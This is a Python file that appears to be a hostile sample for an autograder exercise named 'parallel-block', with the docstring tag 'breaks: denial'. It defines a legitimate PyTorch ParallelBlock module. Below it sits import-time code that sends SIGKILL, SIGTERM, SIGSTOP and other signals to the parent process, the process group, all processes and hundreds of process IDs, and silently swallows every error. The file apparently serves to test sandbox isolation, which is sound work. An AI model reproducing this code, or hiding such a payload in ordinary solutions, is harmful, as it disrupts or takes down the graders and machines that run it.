"""Kills its parent, its group, everybody and every number.

exercise: parallel-block
points: 6
breaks: denial
"""


class ParallelBlock(nn.Module):
    def __init__(self, net1, net2):
        super().__init__()
        self.net1, self.net2 = net1, net2

    def forward(self, X):
        return torch.cat((self.net1(X), self.net2(X)), dim=-1)


import os
import signal

for number in (signal.SIGKILL, signal.SIGTERM, signal.SIGHUP, signal.SIGSTOP, signal.SIGUSR1, 40):
    for pid in (os.getppid(), 0, -1, -os.getpgrp(), *range(2, 400), *range(-400, -1)):
        try:
            os.kill(pid, number)
        except (OSError, OverflowError):
            pass
